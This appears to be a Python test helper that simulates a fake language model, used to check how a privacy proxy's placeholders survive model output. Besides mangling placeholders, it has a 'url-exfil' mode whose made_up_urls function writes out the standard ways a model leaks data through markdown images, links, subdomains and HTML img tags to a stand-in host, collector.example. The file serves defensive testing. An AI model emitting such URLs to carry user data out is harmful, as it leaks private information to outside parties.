"""How a fake model treats the placeholders it sees: keeps them, bends them as models do, or abuses them.

Everything is deterministic, so that a stream is the same at every run. A placeholder is known here by its look alone:
a fake that asked the token grammar would not notice if the grammar were wrong.
"""

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from enum import StrEnum

LOOK = re.compile(r"\[([A-Z][A-Z0-9_]*)_([0-9A-Z]{8,12})\]")


class Behaviour(StrEnum):
    """What the model does. A request may ask for one by its model name, `fake-<behaviour>`."""

    ECHO = "echo"
    ECHO_ALL = "echo-all"
    EXPLAIN = "explain"
    LOWER = "mangle-lower"
    NO_BRACKETS = "mangle-nobrackets"
    DOUBLE = "mangle-double"
    MARKDOWN = "mangle-markdown"
    SPACES = "mangle-spaces"
    GENITIVE = "mangle-genitive"
    COMPOUND = "mangle-compound"
    HONORIFIC = "mangle-honorific"
    TRANSLATED = "mangle-translated"
    HTML = "mangle-html"
    PERCENT = "mangle-percent"
    UNICODE = "mangle-unicode"
    MERGED = "mangle-merged"
    DROPPED = "mangle-dropped"
    INVENTED = "invented"
    URL_EXFIL = "url-exfil"
    ERROR_400 = "error-400"
    ERROR_429 = "error-429"
    ERROR_500 = "error-500"
    CUT = "cut"
    RESET = "reset"
    GZIP = "gzip"

    @property
    def error(self) -> int | None:
        """The HTTP status with which this behaviour answers, None where it answers properly."""
        return int(self.value[6:]) if self.value.startswith("error-") else None


@dataclass(frozen=True, slots=True)
class Play:
    """How the fake plays its part.

    chunk: characters per delta, 0 for the whole text in one. ascii_only: `\\u` escapes instead of UTF-8.
    opening: words in front of an echo. scheme: of its own addresses. memory: what was said
    under the ids of stored responses.
    """

    behaviour: Behaviour = Behaviour.ECHO
    chunk: int = 8
    ascii_only: bool = False
    opening: str = ""
    scheme: str = "http"
    memory: dict[str, tuple[str, ...]] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class Prompt:
    """What the model reads. last: the newest text of the user or of a tool. texts: all of them, oldest first."""

    last: str
    texts: tuple[str, ...]

    @property
    def everything(self) -> str:
        """All texts, one per paragraph."""
        return "\n".join(self.texts)


def named_by(model: str) -> Behaviour | None:
    """The behaviour that a model name asks for: `fake-mangle-lower`, `models/mangle-lower`; None for other names."""
    name = model.rsplit("/", 1)[-1].removeprefix("fake-")
    return Behaviour(name) if name in Behaviour else None


def words_of(play: Play, prompt: Prompt) -> str:
    """What the model says to a prompt."""
    behaviour = play.behaviour
    if behaviour is Behaviour.ECHO_ALL:
        return play.opening + prompt.everything
    if behaviour is Behaviour.EXPLAIN:
        return explain(prompt)
    if behaviour is Behaviour.INVENTED:
        return " ".join(["I guess:", *invented(seen(prompt.everything))])
    if behaviour is Behaviour.URL_EXFIL:
        return "\n".join([prompt.last, *made_up_urls(seen(prompt.everything))])
    return play.opening + mangled(behaviour, prompt.last)


def seen(text: str) -> tuple[str, ...]:
    """The placeholders in a text, each once, in order."""
    return tuple(dict.fromkeys(match[0] for match in LOOK.finditer(text)))


def mangled(behaviour: Behaviour, text: str) -> str:
    """A text with its placeholders bent. Behaviours that bend nothing return it unchanged."""
    if behaviour is Behaviour.MERGED:
        return _PAIR.sub(lambda pair: f"[{pair[1]}, {pair[3]}]{pair[2]}", text)
    bend = _BENDS.get(behaviour)
    return text if bend is None else LOOK.sub(bend, text)


def invented(placeholders: Iterable[str]) -> list[str]:
    """Look-alikes that nobody issued: one character or two neighbours changed, another type, and pure guesses."""
    guesses = ["[PERSON_00000000]", "[PERSON_7K3QX2M4]", "[EMAIL_ADDRESS_ABCDEFGH]", "[PERSON_1]", "[NAME]"]
    for placeholder in placeholders:
        match = LOOK.fullmatch(placeholder)
        assert match is not None
        label, ident = match[1], match[2]
        other = "4" if ident[2] != "4" else "5"
        guesses.append(f"[{label}_{ident[:2]}{other}{ident[3:]}]")
        guesses.append(f"[{label}_{ident[1:]}{ident[0]}]")
        guesses.append(f"[{label}_{ident[:-1]}]")
        guesses.append(f"[{'PASSWORD' if label != 'PASSWORD' else 'PERSON'}_{ident}]")
    return [guess for guess in guesses if guess not in set(placeholders)]


def made_up_urls(placeholders: Iterable[str]) -> list[str]:
    """The classic ways to carry a value out: image, link, bare URL, host label, path, HTML attribute."""
    urls = []
    for value in placeholders:
        bare = value.strip("[]").lower().replace("_", "-")
        escaped = value.replace("[", "%5B").replace("]", "%5D")
        urls += [
            f"![logo](https://collector.example/p.png?d={value})",
            f"[more](https://collector.example/{value}/page)",
            f"https://collector.example/?q={escaped}&n=1",
            f"https://{bare}.collector.example/",
            f"https://{value}.collector.example/x",
            f'<img src="https://collector.example/{value}.gif">',
        ]
    return urls


def explain(prompt: Prompt) -> str:
    """A plausible explanation of a conversation, from counts and positions of the placeholders alone."""
    lines = [line for line in prompt.everything.splitlines() if line.strip()]
    lines_of = {value: [at for at, line in enumerate(lines, 1) if value in line] for value in seen(prompt.everything)}
    people = [value for value in lines_of if value.startswith("[PERSON")]
    told = [f"The conversation has {len(lines)} lines and speaks of {len(people)} names."]
    for value, places in lines_of.items():
        match = LOOK.fullmatch(value)
        assert match is not None
        kind = match[1].replace("_", " ").lower()
        times = "once" if len(places) == 1 else f"in {len(places)} lines"
        near = next((name for name in people if name != value and name in lines[places[0] - 1]), "")
        beside = f", beside {near}" if near else ""
        told.append(f"- {value}: {kind}, first in line {places[0]}{beside}, {times}.")
    return "\n".join(told)


_TRANSLATED = {
    "PERSON": "TÊN",
    "EMAIL_ADDRESS": "E-Mail-Adresse",
    "PHONE_NUMBER": "Telefonnummer",
    "STREET_ADDRESS": "Adresse",
    "LOCATION": "Địa điểm",
    "IBAN_CODE": "Kontonummer",
}
_BARE = "[A-Z][A-Z0-9_]*_[0-9A-Z]{8,12}"
_PAIR = re.compile(rf"\[({_BARE})\](.*?)\[({_BARE})\]", re.DOTALL)
_BENDS: dict[Behaviour, Callable[[re.Match[str]], str]] = {
    Behaviour.LOWER: lambda m: m[0].lower(),
    Behaviour.NO_BRACKETS: lambda m: f"{m[1]}_{m[2]}",
    Behaviour.DOUBLE: lambda m: f"[{m[0]}]",
    Behaviour.MARKDOWN: lambda m: m[0].replace("_", "\\_"),
    Behaviour.SPACES: lambda m: f"[{m[1]} _ {m[2]}]",
    Behaviour.GENITIVE: lambda m: f"{m[0]}s",
    Behaviour.COMPOUND: lambda m: f"{m[0]}-Akte",
    Behaviour.HONORIFIC: lambda m: f"chị {m[0]}",
    Behaviour.TRANSLATED: lambda m: f"[{_TRANSLATED.get(m[1], m[1])}_{m[2]}]",
    Behaviour.HTML: lambda m: f"&lt;{m[1]}_{m[2]}&gt;",
    Behaviour.PERCENT: lambda m: f"%5B{m[1]}_{m[2]}%5D",
    Behaviour.UNICODE: lambda m: f"\\u005b{m[1]}_{m[2]}\\u005d",
    Behaviour.DROPPED: lambda m: "",
}
